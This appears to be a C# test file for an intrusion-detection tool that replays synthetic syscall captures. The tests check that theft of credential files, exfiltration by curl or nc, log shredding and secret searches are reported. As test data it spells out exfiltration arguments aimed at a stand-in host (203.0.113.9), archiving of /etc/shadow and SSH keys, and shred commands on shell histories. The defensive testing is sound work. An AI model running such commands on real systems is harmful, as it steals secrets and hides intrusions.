using CSysdig.Capture.Events;
using CSysdig.Model.Story.Findings;
using CSysdig.Tests.TestKit;
using static CSysdig.Tests.Chisels.Story.Intrusion;
using static CSysdig.Tests.TestKit.ScapBuilder;

namespace CSysdig.Tests.Chisels.Story;

/// <summary>What is gathered, sent away, and destroyed again.</summary>
public sealed class TheftTests
{
    const string Archive = "/tmp/x.tgz", Away = "203.0.113.9:443", Near = "192.168.1.9:443";

    [Theory]
    [InlineData("tar", "/etc/shadow", "passwords")]
    [InlineData("tar", "/home/alice/letter", "homes")]
    [InlineData("zip", "/root/.ssh/id_rsa", "keys")]
    [InlineData("cp", "/etc/passwd", "accounts")]
    [InlineData("gzip", "/var/lib/mysql/shop/orders.ibd", "databases")]
    [InlineData("cp", "/root/.bash_history", "histories")]
    [InlineData("cp", "/root/.aws/credentials", "credentials")]
    [InlineData("cp", "/var/mail/root", "mail")]
    [InlineData("python3", "/etc/shadow", "passwords")]
    [InlineData("cp", "/home/alice/letter", null)]
    [InlineData("tar", "/usr/share/doc/x", null)]
    [InlineData("python3", "/root/.aws/credentials", null)]
    [InlineData("cp", "/root/.ssh/id_rsa.pub", null)]
    public void An_archive_or_copy_of_what_is_worth_something_is_told(string program, string path, string? what)
    {
        var capture = Session();
        Collects(capture, program, path);
        Assert.Empty(Findings(capture));
        var (kind, words) = program is "tar" or "zip" or "gzip" ? ("collected", "collected") : ("copied_data", "took copies");
        var told = Findings(capture.BringToLight()).Where(f => Kind(f) is "collected" or "copied_data").ToList();
        Assert.Equal(what is null ? [] : [$"{kind} {words}: {Archive} with {what}"], told.Select(f => $"{Kind(f)} {What(f)}"));
    }

    [Fact]
    public void Who_looks_up_what_users_are_called_collects_no_accounts()
    {
        var capture = Session();
        Command(capture, 110, "/bin/tar", "tar", "xf\0/tmp/l.tar").Openat(110, 3, "/etc/passwd").Read(110, 3).Openat(110, 4, "/tmp/l", flags: ToEmpty).Write(110, 4, "x");
        Assert.DoesNotContain(Findings(capture.BringToLight()), f => Kind(f) is "collected" or "copied_data");
    }

    [Theory]
    [Sides(nameof(FindingBounds.SentBytes), 255, 256)]
    [InlineData(255, false)]
    [InlineData(256, true)]
    public void So_many_bytes_of_it_are_a_theft_with_its_answer(int bytes, bool isTold)
    {
        var capture = Session();
        Collects(capture, "tar", "/etc/shadow");
        Sends(capture, "curl", Archive, Away, bytes);
        var told = Findings(capture).Where(f => Kind(f) == "sent_out").Select(What).SingleOrDefault();
        Assert.Equal(isTold ? $"sent out: {Archive} to 203.0.113.9 port 443 by curl, 256 bytes, answered \"HTTP/1.1 200 OK\"" : null, told);
    }

    [Theory]
    [InlineData("curl", "/etc/shadow", Away, true)]
    [InlineData("curl", "/etc/shadow", Near, false)]
    [InlineData("curl", "/home/alice/letter", Away, false)]
    [InlineData("scp", "/etc/shadow", Away, false)]
    [InlineData("rsync", "/etc/shadow", Away, false)]
    public void A_backup_is_no_theft(string program, string path, string to, bool isGrave)
    {
        var capture = Session();
        Collects(capture, "tar", path);
        Sends(capture, program, Archive, to, 1000);
        Assert.Equal(isGrave, Findings(capture).Count > 0);
        Assert.Single(Findings(capture.BringToLight()), f => Kind(f) == "sent_out");
    }

    [Fact]
    public void What_goes_through_a_pipe_is_followed()
    {
        const ulong Pipe = 77;
        var capture = Session();
        capture.Event(EventCode.SyscallPipeE, 102).Event(EventCode.SyscallPipeX, 102, I64(0), I64(5), I64(6), U64(Pipe));
        Command(capture, 110, "/bin/tar", "tar", "cz\0/root").Openat(110, 3, "/root/.ssh/id_rsa").Read(110, 3).Write(110, 6, "x");
        Command(capture, 111, "/bin/nc", "nc", "203.0.113.9\0443").Read(111, 5);
        Talks(capture, 111, Away, 1000);
        Assert.Equal("sent out: keys to 203.0.113.9 port 443 by nc, 1,000 bytes, answered \"HTTP/1.1 200 OK\"", What(Only(capture, "sent_out")));
    }

    [Theory]
    [InlineData("-T\0/tmp/a b\0http://203.0.113.9/")]
    [InlineData("-F\0file=@/tmp/a b\0http://203.0.113.9/")]
    [InlineData("--data-binary\0@/tmp/a b\0http://203.0.113.9/")]
    [InlineData("-u\0alice@example\0http://203.0.113.9/", false)]
    public void What_curl_is_told_to_send_is_named(string args, bool isTold = true)
    {
        var capture = Session();
        Command(capture, 110, "/usr/bin/curl", "curl", args);
        Talks(capture, 110, Away, 1000);
        var told = Findings(capture.BringToLight()).Where(f => Kind(f) == "sent_out").Select(What).SingleOrDefault();
        Assert.Equal(isTold ? "sent out: /tmp/a b to 203.0.113.9 port 443 by curl, 1,000 bytes, answered \"HTTP/1.1 200 OK\"" : null, told);
    }

    [Fact]
    public void The_archive_is_followed_under_another_name_until_it_is_destroyed()
    {
        var capture = Session();
        Collects(capture, "tar", "/etc/shadow");
        capture.Rename(102, Archive, "/tmp/y");
        Removes(capture, 102, "/tmp/y");
        Assert.Equal("destroyed files: /tmp/y", What(Only(capture.BringToLight(), "destroyed_files")));
    }

    [Theory]
    [InlineData("/root/.bash_history", true)]
    [InlineData("/var/log/wtmp", true)]
    [InlineData("/home/old", false)]
    public void Who_shreds_a_history_has_something_to_hide(string path, bool isGrave)
    {
        var capture = Session();
        Command(capture, 110, "/usr/bin/shred", "shred", $"-u\0{path}");
        Assert.Equal(isGrave, Findings(capture).Count > 0);
        Assert.Equal($"destroyed files: {path}", What(Only(capture.BringToLight(), "destroyed_files")));
    }

    [Theory]
    [InlineData("find", "/\0-name\0id_rsa*", true)]
    [InlineData("grep", "-ri\0password\0/var/www", true)]
    [InlineData("find", "/\0-name\0*.c", false)]
    public void Who_looks_for_secrets_is_told(string program, string args, bool isTold)
    {
        var capture = Session();
        Command(capture, 110, $"/usr/bin/{program}", program, args);
        Assert.Equal(isTold, Findings(capture.BringToLight()).Exists(f => Kind(f) == "searched_secrets"));
    }

    static void Collects(ScapBuilder b, string program, string path) =>
        Command(b, 110, $"/usr/bin/{program}", program, $"{path}\0{Archive}").Openat(110, 3, path).Read(110, 3).Close(110, 3).Openat(110, 4, Archive, flags: ToEmpty).Write(110, 4, "x").Close(110, 4);

    static void Sends(ScapBuilder b, string program, string path, string to, int bytes)
    {
        Command(b, 111, $"/usr/bin/{program}", program).Openat(111, 3, path).Read(111, 3);
        Talks(b, 111, to, bytes);
    }

    static void Talks(ScapBuilder b, long pid, string to, int bytes) => b.TcpSocket(pid, 7).Connect(pid, 7, "198.51.100.20:4000", to)
        .Write(pid, 7, new string('x', bytes - 1)).Write(pid, 7, "x").Read(pid, 7, "HTTP/1.1 200 OK\r\n\r\n");
}
